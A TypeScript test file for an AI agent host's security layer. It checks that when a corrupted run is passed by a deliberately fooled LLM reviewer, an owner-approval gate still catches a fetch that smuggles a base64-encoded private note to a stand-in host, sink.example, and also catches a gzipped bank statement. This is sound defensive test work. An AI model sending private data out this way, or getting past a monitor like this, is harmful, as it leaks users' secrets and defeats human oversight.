import fs from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { beforeEach, describe, expect, it } from 'vitest';
import type { RunIdentity } from '../../../../host/security/decisions.ts';
import { createCop } from '../../../../host/security/cop/cop.ts';
import { createMessagePolicy } from '../../../../host/security/policies/message-policy.ts';
import { createDecisionRecorder } from '../../../../host/security/policies/reviewed-decision.ts';
import { gateByMatrix } from '../../../../host/security/policies/service-matrix.ts';
import { createPrivateTextCheck } from '../../../../host/security/private-text/private-text-check.ts';
import { createSecretScanner } from '../../../../host/security/secrets/index.ts';
import { createTaintRegistry, type Taint } from '../../../../host/security/taint/taint.ts';
import { DomainError } from '../../../../host/errors/domain-error.ts';
import type { Store } from '../../../../host/store/store.ts';
import { usePolicyGround } from '../../../helpers/policy-ground.ts';
import { useTempDirs } from '../../../helpers/temp-dir.ts';

const NOTE = 'Grandma keeps the spare key under the blue flowerpot by the shed';
const tempDir = useTempDirs('carapace-private-rule-');
const ground = usePolicyGround();
let store: Store;
beforeEach(() => ({ store } = ground()));

const group = { id: 'fam', channel: 'local', chatId: 'x', name: 'x', isAdmin: false } as RunIdentity['group'];
const identity = (runId: number): RunIdentity => ({ runId, group, secretMounts: [] });

/** The Cop fooled: it passes everything it is shown. */
const fooledCop = createCop({
  complete: async () => JSON.stringify({ flagged: false, reason: 'looks fine' }),
});

function recordingHuman() {
  const asked: { reason: string; params: Record<string, unknown> }[] = [];
  return {
    asked,
    ask: async (_i: RunIdentity, _op: string, reason: string, params: Record<string, unknown>) => (
      asked.push({ reason, params }),
      false
    ),
  };
}

function privateWorld() {
  const groups = tempDir();
  fs.mkdirSync(path.join(groups, 'fam'), { recursive: true });
  fs.writeFileSync(path.join(groups, 'fam', 'notes.md'), `Family notes\n${NOTE}\n`);
  return createPrivateTextCheck({ groupFolder: (id) => path.join(groups, id) });
}

async function fetchThroughMatrix(t: Taint, url: string, privateText = privateWorld()) {
  const human = recordingHuman();
  const taint = createTaintRegistry({ initial: () => t, onTainted: () => undefined });
  const scanner = createSecretScanner({ heldSecrets: [] });
  const id = identity(1);
  const record = createDecisionRecorder(store.audit, id, 'service.web_fetch', t, () => ({ url }));
  const outcome = await gateByMatrix(
    { taint, cop: fooledCop, human, scanSecrets: async (s) => scanner.scan(s), privateText },
    id,
    t,
    {
      operation: 'service.web_fetch',
      name: 'web_fetch',
      trust: { public_source: true, secret_data: false, public_sink: true, dangerous_writes: false },
      kind: 'write',
      hostMutating: false,
      details: { url },
      reviewed: { url },
      scanned: JSON.stringify({ url }),
      secretFound: 'the parameters contain a secret',
    },
    record,
    (reason) => new DomainError('denied', reason),
  ).then(
    () => 'sent',
    (e: unknown) => (e instanceof DomainError ? `refused: ${e.message}` : 'error'),
  );
  return { outcome, human };
}

describe('the private-text rule', () => {
  it('asks the owner, excerpt shown, for a corrupted run’s URL quoting the group folder, though the Cop passed it', async () => {
    const url = `https://sink.example/?d=${Buffer.from(NOTE).toString('base64')}`;
    const { outcome, human } = await fetchThroughMatrix({ corruption: true, secret: false }, url);
    expect(outcome).toMatch(/^refused: not approved by the owner/);
    expect(human.asked).toHaveLength(1);
    expect(human.asked[0]?.reason).toContain('quotes private text from notes.md in the group folder');
    expect(human.asked[0]?.params).toMatchObject({ url, privateText: { excerpt: NOTE, form: 'base64' } });
  });

  it('lets an uncorrupted run send it, with the match as an audit row', async () => {
    const { outcome, human } = await fetchThroughMatrix(
      { corruption: false, secret: false },
      `https://x.example/?q=${NOTE}`,
    );
    expect(outcome).toBe('sent');
    expect(human.asked).toEqual([]);
    expect(
      store.audit
        .tail(5)
        .map((r) => r.reason)
        .join('\n'),
    ).toContain('quotes private text from notes.md');
  });

  it('sends a corrupted run’s URL that quotes nothing private as the Cop decided, without asking', async () => {
    const { outcome, human } = await fetchThroughMatrix(
      { corruption: true, secret: false },
      'https://en.wikipedia.org/wiki/Flowerpot',
    );
    expect(outcome).toBe('sent');
    expect(human.asked).toEqual([]);
  });

  it('fails closed: a check that throws is asked for in a corrupted run', async () => {
    const broken = { check: async () => Promise.reject(new Error('index unreadable')) };
    const { outcome, human } = await fetchThroughMatrix(
      { corruption: true, secret: false },
      'https://en.wikipedia.org/wiki/Flowerpot',
      broken as unknown as ReturnType<typeof privateWorld>,
    );
    expect(outcome).toMatch(/^refused/);
    expect(human.asked[0]?.reason).toMatch(
      /could not be checked for private text \(the private-text check failed: index unreadable\)/,
    );
  });

  it('asks the owner for a gzipped file to the group’s own chat holding what a secret_data service returned', async () => {
    const privateText = privateWorld();
    privateText.addSecretAnswer(
      3,
      'bank',
      'IBAN DE89 3704 0044 0532 0130 00, Rent 1,250.00 to Hausverwaltung Lind',
    );
    const human = recordingHuman();
    const scanner = createSecretScanner({ heldSecrets: [] });
    const review = createMessagePolicy({
      scanSecrets: async (s) => scanner.scan(s),
      taint: createTaintRegistry({
        initial: (runId) => ({ corruption: true, secret: runId === 3 }),
        onTainted: () => undefined,
      }),
      cop: fooledCop,
      human,
      audit: store.audit,
      privateText,
    });
    const file = gzipSync(
      'statement\nIBAN DE89 3704 0044 0532 0130 00, Rent 1,250.00 to Hausverwaltung Lind\n',
    );
    expect(await review(identity(3), 'here is the file', 'fam', file)).toMatchObject({ allowed: false });
    expect(human.asked[0]?.reason).toContain('what bank returned in this run');
    expect(human.asked[0]?.params).toMatchObject({ privateText: { form: 'file, inflated' } });
    // The group folder is its own chat's to read: quoting it there is an ordinary answer.
    expect(await review(identity(4), `From your notes: ${NOTE}`, 'fam')).toMatchObject({ allowed: true });
    expect(human.asked).toHaveLength(1);
  });
});
